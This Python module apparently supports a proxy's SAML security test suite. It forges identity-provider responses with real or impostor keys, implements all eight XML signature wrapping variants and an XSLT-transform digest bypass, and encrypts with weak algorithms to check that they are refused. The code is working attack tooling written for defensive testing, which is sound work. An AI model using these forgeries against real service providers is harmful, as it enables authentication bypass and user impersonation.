"""Forging SAML responses for the security suites, with signxml + lxml (never pysaml2).

The proxy verifies in process (``proxy/saml``: its own profile checks, lxml's
canonicalization, cryptography's RSA); the attacks are built with other code (signxml,
and cryptography for encryption) so that a verifier bug cannot hide itself in both.
A forgery starts from a genuine response of the GAR simulator (``SimulatedGar``), is
edited with lxml, and is (re-)signed here with real keys: the GAR simulator's own key
(trusted by the proxy's metadata) or a freshly generated attacker key.
"""

from __future__ import annotations

import base64
import copy
import datetime as dt
import hashlib
import os
from dataclasses import dataclass
from functools import cache

from cryptography import x509
from cryptography.hazmat.decrepit.ciphers.algorithms import TripleDES
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives import padding as block_padding
from cryptography.hazmat.primitives.asymmetric import padding, rsa
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from cryptography.hazmat.primitives.ciphers.aead import AESGCM
from cryptography.x509.oid import NameOID
from lxml import etree
from signxml import XMLSigner, methods

from gar_sim.idp_config import idp_key_paths
from gar_sim.settings import SimSettings

SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
SAML = "urn:oasis:names:tc:SAML:2.0:assertion"
DS = "http://www.w3.org/2000/09/xmldsig#"
NS = {"samlp": SAMLP, "saml": SAML, "ds": DS}

EXC_C14N = "http://www.w3.org/2001/10/xml-exc-c14n#"
ENVELOPED = DS + "enveloped-signature"
XSLT_TRANSFORM = "http://www.w3.org/TR/1999/REC-xslt-19991116"
RSA_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"
RSA_SHA1 = DS + "rsa-sha1"
HMAC_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"
SHA256 = "http://www.w3.org/2001/04/xmlenc#sha256"
SHA1 = DS + "sha1"

_SIGNXML_NAMES = {RSA_SHA256: "rsa-sha256", RSA_SHA1: "rsa-sha1", HMAC_SHA256: "hmac-sha256",
                  SHA256: "sha256", SHA1: "sha1"}


@dataclass(frozen=True)
class KeyPair:
    """A private key and its certificate, both PEM."""

    key_pem: bytes
    cert_pem: bytes

    @property
    def cert_b64(self) -> str:
        der = x509.load_pem_x509_certificate(self.cert_pem).public_bytes(
            serialization.Encoding.DER)
        return base64.b64encode(der).decode("ascii")


def gar_keys(settings: SimSettings) -> KeyPair:
    """The GAR simulator's signing key pair: the one the proxy's metadata trusts."""
    key_path, cert_path = idp_key_paths(settings)
    return KeyPair(key_path.read_bytes(), cert_path.read_bytes())


@cache
def attacker_keys() -> KeyPair:
    """A fresh key pair no metadata knows, with a certificate named like the GAR's."""
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "Simulateur GAR (developpement)")])
    now = dt.datetime.now(dt.UTC)
    cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name)
            .public_key(key.public_key()).serial_number(x509.random_serial_number())
            .not_valid_before(now - dt.timedelta(days=1))
            .not_valid_after(now + dt.timedelta(days=30))
            .sign(key, hashes.SHA256()))
    return KeyPair(
        key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                          serialization.NoEncryption()),
        cert.public_bytes(serialization.Encoding.PEM),
    )


# --------------------------------------------------------------------------- (de)coding

_PARSER = etree.XMLParser(resolve_entities=False, no_network=True, remove_blank_text=False)


def decode(saml_response_b64: str) -> etree._Element:
    """The response's root element (``samlp:Response``)."""
    return etree.fromstring(base64.b64decode(saml_response_b64), _PARSER)


def encode(root: etree._Element | bytes, prolog: bytes = b"") -> str:
    """Base64 of the serialized XML (``prolog``: a DOCTYPE or anything to put before it)."""
    xml = root if isinstance(root, bytes) else etree.tostring(root)
    return base64.b64encode(prolog + xml).decode("ascii")


def assertion_of(response: etree._Element) -> etree._Element:
    return response.find("saml:Assertion", NS)


def signature_of(element: etree._Element) -> etree._Element | None:
    """The enveloped signature of ``element`` (its direct ``ds:Signature`` child)."""
    return element.find("ds:Signature", NS)


def strip_signature(element: etree._Element) -> etree._Element:
    signature = signature_of(element)
    if signature is not None:
        element.remove(signature)
    return element


def attribute_values(assertion: etree._Element, name: str) -> list[etree._Element]:
    return assertion.findall(f"saml:AttributeStatement/saml:Attribute[@Name='{name}']/"
                             "saml:AttributeValue", NS)


def set_attribute(assertion: etree._Element, name: str, value: str) -> None:
    for element in attribute_values(assertion, name):
        element.text = value


def stamp(seconds_from_now: int) -> str:
    moment = dt.datetime.now(dt.UTC) + dt.timedelta(seconds=seconds_from_now)
    return moment.strftime("%Y-%m-%dT%H:%M:%SZ")


# --------------------------------------------------------------------------- signing


class _Signer(XMLSigner):
    """signxml's signer; SHA-1 allowed on demand (to prove the *proxy* refuses it)."""

    def __init__(self, *, allow_sha1: bool = False, **kwargs) -> None:
        self._allow_sha1 = allow_sha1
        super().__init__(**kwargs)

    def check_deprecated_methods(self):
        if not self._allow_sha1:
            super().check_deprecated_methods()


def sign(element: etree._Element, keys: KeyPair | None, *,
         signature_method: str = RSA_SHA256, digest_method: str = SHA256,
         hmac_key: bytes | None = None, with_cert: bool = True) -> etree._Element:
    """Sign ``element`` (a Response or an Assertion) in place with an enveloped signature.

    The signature goes where SAML puts it (right after ``Issuer``), over the element's
    ``ID``, exclusive canonicalization, like the GAR's. Any previous enveloped signature
    of the element is removed first. ``hmac_key`` signs with HMAC (no KeyInfo).
    """
    strip_signature(element)
    element_id = element.get("ID")
    placeholder = etree.Element(etree.QName(DS, "Signature"), Id="placeholder", nsmap={"ds": DS})
    issuer = element.find("saml:Issuer", NS)
    issuer.addnext(placeholder)
    standalone = copy.deepcopy(element)
    signer = _Signer(method=methods.enveloped,
                     signature_algorithm=_SIGNXML_NAMES[signature_method],
                     digest_algorithm=_SIGNXML_NAMES[digest_method],
                     c14n_algorithm=EXC_C14N,
                     allow_sha1=SHA1 in (signature_method, digest_method)
                     or signature_method == RSA_SHA1)
    signer.namespaces = {"ds": DS}
    if hmac_key is not None:
        signed = signer.sign(standalone, key=hmac_key, reference_uri=element_id,
                             id_attribute="ID")
    else:
        signed = signer.sign(standalone, key=keys.key_pem,
                             cert=keys.cert_pem if with_cert else None,
                             reference_uri=element_id, id_attribute="ID")
    parent = element.getparent()
    if parent is not None:
        parent.replace(element, signed)
    return signed


def resign_signed_info(signature: etree._Element, keys: KeyPair) -> None:
    """Recompute ``SignatureValue`` (RSA-SHA256) over the current, edited ``SignedInfo``."""
    signed_info = signature.find("ds:SignedInfo", NS)
    canonical = etree.tostring(signed_info, method="c14n", exclusive=True)
    key = serialization.load_pem_private_key(keys.key_pem, password=None)
    value = key.sign(canonical, padding.PKCS1v15(), hashes.SHA256())
    signature.find("ds:SignatureValue", NS).text = base64.b64encode(value).decode("ascii")


def add_constant_xslt_transform(signature: etree._Element, keys: KeyPair,
                                output: bytes = b"constant") -> None:
    """Replace the reference's transforms with an XSLT whose output is a constant.

    The digest then matches ``output`` whatever the signed element says: if a verifier
    ran the transform, any content would pass. SignedInfo is re-signed with ``keys``.
    """
    transforms = signature.find("ds:SignedInfo/ds:Reference/ds:Transforms", NS)
    for child in list(transforms):
        transforms.remove(child)
    transform = etree.SubElement(transforms, etree.QName(DS, "Transform"),
                                 Algorithm=XSLT_TRANSFORM)
    stylesheet = etree.fromstring(
        b'<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0">'
        b'<xsl:output method="text"/><xsl:template match="/">'
        + output + b"</xsl:template></xsl:stylesheet>")
    transform.append(stylesheet)
    digest = signature.find("ds:SignedInfo/ds:Reference/ds:DigestValue", NS)
    digest.text = base64.b64encode(hashlib.sha256(output).digest()).decode("ascii")
    resign_signed_info(signature, keys)


# --------------------------------------------------------------------------- XML signature wrapping


def _evil(element: etree._Element, edit) -> etree._Element:
    """An unsigned copy of ``element`` with a new ID and the attacker's ``edit`` applied."""
    evil = strip_signature(copy.deepcopy(element))
    evil.set("ID", "_evil_" + element.get("ID"))
    edit(evil if evil.tag == etree.QName(SAML, "Assertion") else assertion_of(evil))
    return evil


def wrap(response: etree._Element, variant: str, edit) -> etree._Element:
    """Apply SAML Raider's XSW ``variant`` (1 to 8); ``edit(assertion)`` makes it evil.

    XSW1-2 wrap a signed Response, XSW3-8 a signed Assertion. In every variant the
    genuine signature is kept untouched, and the evil content is where the catalogue
    puts it (where a careless SP reads the identity).
    """
    assertion = assertion_of(response)
    if variant in ("XSW1", "XSW2"):
        genuine = copy.deepcopy(response)
        signature = signature_of(genuine)
        original = strip_signature(copy.deepcopy(genuine))
        evil_root = _evil(genuine, edit)  # the evil Response is the document root
        evil_signature = copy.deepcopy(signature)
        evil_root.find("saml:Issuer", NS).addnext(evil_signature)
        if variant == "XSW1":  # the original Response inside the signature
            evil_signature.append(original)
        else:  # XSW2: the original Response as a sibling before the signature (detached)
            evil_signature.addprevious(original)
        return evil_root
    signature = signature_of(assertion)
    if variant == "XSW3":  # evil assertion first, the signed one after it
        assertion.addprevious(_evil(assertion, edit))
    elif variant == "XSW4":  # the signed assertion moved inside the evil one
        evil = _evil(assertion, edit)
        assertion.addprevious(evil)
        evil.append(assertion)
    elif variant == "XSW5":  # evil assertion carries the signature; original copy at the end
        original = strip_signature(copy.deepcopy(assertion))
        assertion.set("ID", "_evil_" + assertion.get("ID"))
        edit(assertion)
        response.append(original)
    elif variant == "XSW6":  # evil assertion carries the signature; original inside it
        original = strip_signature(copy.deepcopy(assertion))
        assertion.set("ID", "_evil_" + assertion.get("ID"))
        edit(assertion)
        signature.append(original)
    elif variant == "XSW7":  # evil assertion; the signed original in an Extensions element
        extensions = etree.Element(etree.QName(SAMLP, "Extensions"))
        response.find("samlp:Status", NS).addprevious(extensions)
        evil = _evil(assertion, edit)
        assertion.addprevious(evil)
        extensions.append(assertion)
    elif variant == "XSW8":  # evil assertion carries the signature; original in a ds:Object
        original = strip_signature(copy.deepcopy(assertion))
        assertion.set("ID", "_evil_" + assertion.get("ID"))
        edit(assertion)
        obj = etree.SubElement(signature, etree.QName(DS, "Object"))
        obj.append(original)
    else:
        raise ValueError(variant)
    return response


# --------------------------------------------------------------------------- XML encryption

XENC = "http://www.w3.org/2001/04/xmlenc#"
XENC11 = "http://www.w3.org/2009/xmlenc11#"
RSA_OAEP_MGF1P = XENC + "rsa-oaep-mgf1p"
RSA_OAEP = XENC11 + "rsa-oaep"
RSA_1_5 = XENC + "rsa-1_5"
AES128_GCM = XENC11 + "aes128-gcm"
AES192_GCM = XENC11 + "aes192-gcm"
AES256_GCM = XENC11 + "aes256-gcm"
AES128_CBC = XENC + "aes128-cbc"
AES256_CBC = XENC + "aes256-cbc"
TRIPLEDES_CBC = XENC + "tripledes-cbc"
SHA384 = "http://www.w3.org/2001/04/xmldsig-more#sha384"
SHA512 = XENC + "sha512"
MGF1_SHA1, MGF1_SHA256, MGF1_SHA384, MGF1_SHA512 = (
    f"{XENC11}mgf1sha{n}" for n in (1, 256, 384, 512))
_CONTENT_KEY_BYTES = {AES128_GCM: 16, AES192_GCM: 24, AES256_GCM: 32, AES128_CBC: 16,
                      AES256_CBC: 32, TRIPLEDES_CBC: 24}
_OAEP_HASHES: dict[str, type[hashes.HashAlgorithm]] = {
    SHA1: hashes.SHA1, SHA256: hashes.SHA256, SHA384: hashes.SHA384, SHA512: hashes.SHA512,
    MGF1_SHA1: hashes.SHA1, MGF1_SHA256: hashes.SHA256, MGF1_SHA384: hashes.SHA384,
    MGF1_SHA512: hashes.SHA512}


def encrypt_assertion(response: etree._Element, cert_pem: bytes, **algorithms
                      ) -> etree._Element:
    """Replace the response's assertion by an ``EncryptedAssertion`` for ``cert_pem``.

    ``algorithms`` as in :func:`encrypt_element`.
    """
    encrypt_element(assertion_of(response), "EncryptedAssertion", cert_pem, **algorithms)
    return response


def encrypt_element(element: etree._Element, wrapper: str, cert_pem: bytes, *,
                    content: str = AES256_GCM, key_transport: str = RSA_OAEP_MGF1P,
                    oaep_digest: str | None = None, mgf: str | None = None,
                    oaep_label: bytes = b"", key_beside_data: bool = False) -> etree._Element:
    """Replace ``element`` by a ``saml:<wrapper>`` (``EncryptedAssertion``, ``EncryptedID``).

    Built as XML Encryption says, with lxml and cryptography only (never pysaml2, the
    proxy or ``xmlsec1``): a fresh content key encrypts the serialized element with
    ``content`` (allowed or not, so that the proxy's refusals are proved) and is wrapped
    for the certificate's RSA key with ``key_transport``. ``oaep_digest`` and ``mgf``
    are declared (``ds:DigestMethod``, ``xenc11:MGF``) and used when given, SHA-1 when not;
    ``oaep_label`` goes in ``xenc:OAEPparams``. The encrypted key goes in the data's
    ``KeyInfo``, or beside the data (``key_beside_data``).
    """
    key = os.urandom(_CONTENT_KEY_BYTES[content])
    cipher_value = _content_ciphertext(content, key, etree.tostring(element))
    wrapped = _wrapped_key(key_transport, cert_pem, key, oaep_digest, mgf, oaep_label)
    encrypted = etree.Element(etree.QName(SAML, wrapper), nsmap={"saml": SAML})
    data = etree.SubElement(encrypted, etree.QName(XENC, "EncryptedData"),
                            Type=XENC + "Element", nsmap={"xenc": XENC, "ds": DS})
    etree.SubElement(data, etree.QName(XENC, "EncryptionMethod"), Algorithm=content)
    encrypted_key = etree.Element(etree.QName(XENC, "EncryptedKey"), nsmap={"xenc": XENC})
    method = etree.SubElement(encrypted_key, etree.QName(XENC, "EncryptionMethod"),
                              Algorithm=key_transport)
    if oaep_digest:
        etree.SubElement(method, etree.QName(DS, "DigestMethod"), Algorithm=oaep_digest)
    if mgf:
        etree.SubElement(method, etree.QName(XENC11, "MGF"), Algorithm=mgf)
    if oaep_label:
        etree.SubElement(method, etree.QName(XENC, "OAEPparams")).text = (
            base64.b64encode(oaep_label).decode("ascii"))
    _cipher_data(encrypted_key, wrapped)
    if key_beside_data:
        _cipher_data(data, cipher_value)
        encrypted.append(encrypted_key)
    else:
        etree.SubElement(data, etree.QName(DS, "KeyInfo")).append(encrypted_key)
        _cipher_data(data, cipher_value)
    element.getparent().replace(element, encrypted)
    return encrypted


def _content_ciphertext(algorithm: str, key: bytes, plaintext: bytes) -> bytes:
    """XML Encryption's CipherValue: IV then ciphertext (then the GCM tag)."""
    if algorithm in (AES128_GCM, AES192_GCM, AES256_GCM):
        nonce = os.urandom(12)
        return nonce + AESGCM(key).encrypt(nonce, plaintext, None)
    block = TripleDES(key) if algorithm == TRIPLEDES_CBC else algorithms.AES(key)
    iv = os.urandom(block.block_size // 8)
    padder = block_padding.PKCS7(block.block_size).padder()
    encryptor = Cipher(block, modes.CBC(iv)).encryptor()
    padded = padder.update(plaintext) + padder.finalize()
    return iv + encryptor.update(padded) + encryptor.finalize()


def _wrapped_key(algorithm: str, cert_pem: bytes, key: bytes, oaep_digest: str | None,
                 mgf: str | None, label: bytes) -> bytes:
    public_key = x509.load_pem_x509_certificate(cert_pem).public_key()
    assert isinstance(public_key, rsa.RSAPublicKey)
    if algorithm == RSA_1_5:
        return public_key.encrypt(key, padding.PKCS1v15())
    oaep = padding.OAEP(mgf=padding.MGF1(_OAEP_HASHES[mgf or MGF1_SHA1]()),
                        algorithm=_OAEP_HASHES[oaep_digest or SHA1](), label=label or None)
    return public_key.encrypt(key, oaep)


def _cipher_data(parent: etree._Element, value: bytes) -> None:
    cipher_data = etree.SubElement(parent, etree.QName(XENC, "CipherData"))
    etree.SubElement(cipher_data, etree.QName(XENC, "CipherValue")).text = (
        base64.b64encode(value).decode("ascii"))
